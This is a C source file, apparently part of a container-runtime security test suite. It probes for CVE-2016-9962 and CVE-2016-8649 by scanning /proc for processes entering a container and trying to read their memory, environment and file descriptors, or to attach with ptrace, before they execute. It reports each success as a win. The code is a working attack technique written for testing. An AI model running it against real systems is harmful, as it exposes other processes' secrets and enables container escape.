/*
 * CVE-2016-9962, CVE-2016-8649: gets hold of whatever comes in, before it has
 * executed anything.
 */
#include <dirent.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "evil.h"

static const char *prefix; /* of the title that a process has on its way in */

/* It counts only if the process has not executed the program meanwhile, which is the target's own.
 */
static void got(int pid, const char *how)
{
	char text[16];

	if (!has_title(pid, prefix))
		return;
	snprintf(text, sizeof(text), "of %d", pid);
	won(how, text);
}

static void open_files(int pid)
{
	static const char *const names[] = { "mem", "environ", "maps", "auxv", "syscall", "stack" };
	char path[64];
	int fd;

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		/* The last two open for everybody, and are checked when read. */
		if (fd >= 0 && (i < 4 || read(fd, path, sizeof(path)) > 0))
			got(pid, names[i]);
		if (fd >= 0)
			close(fd);
	}
}

static void follow_links(int pid)
{
	static const char *const names[] = { "exe",  "root", "cwd",  "fd/0",
					     "fd/1", "fd/3", "fd/4", "fd/5" };
	char path[64], to[256];

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		if (readlink(path, to, sizeof(to)) > 0)
			got(pid, names[i]);
	}
}

/* EPERM means no; any other failure means that the question was answered. */
static void read_memory(int pid)
{
	char word[8];
	struct iovec here = { word, sizeof(word) }, there = { (void *)0x1000, sizeof(word) };

	if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		got(pid, "process_vm_readv");
}

static void take_files(int pid)
{
	const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return;
	for (int fd = 0; fd < 12; fd++) {
		const int taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (taken >= 0 || errno == EBADF)
			got(pid, "pidfd_getfd");
		if (taken >= 0)
			close(taken); /* or nobody would see its end */
	}
	close(pidfd);
}

static void attach(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return;
	got(pid, "ptrace");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, NULL, __WALL) == pid)
		ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void attack(int pid)
{
	take_files(pid);
	open_files(pid);
	follow_links(pid);
	read_memory(pid);
	attach(pid);
}

/* reach PID: the same, of one that is there. */
int reach(char **arg)
{
	prefix = "nsexec";
	attack(atoi(arg[0]));
	puts("done");
	return 0;
}

static void attack_all(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	if (proc == NULL)
		die("/proc");
	while ((entry = readdir(proc)) != NULL) {
		const int pid = atoi(entry->d_name);

		if (pid > 0 && has_title(pid, prefix))
			attack(pid);
	}
	closedir(proc);
}

/* trace TITLE UID: a second one has another id, which is who some payloads are to be. */
int trace(char **arg)
{
	const int uid = atoi(arg[1]);

	prefix = arg[0];
	if (uid > 0 && fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
		must(setresgid(uid, uid, uid), "set gid");
		must(setresuid(uid, uid, uid), "set uid");
		prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
	}
	puts("begun");
	for (;;)
		attack_all();
}
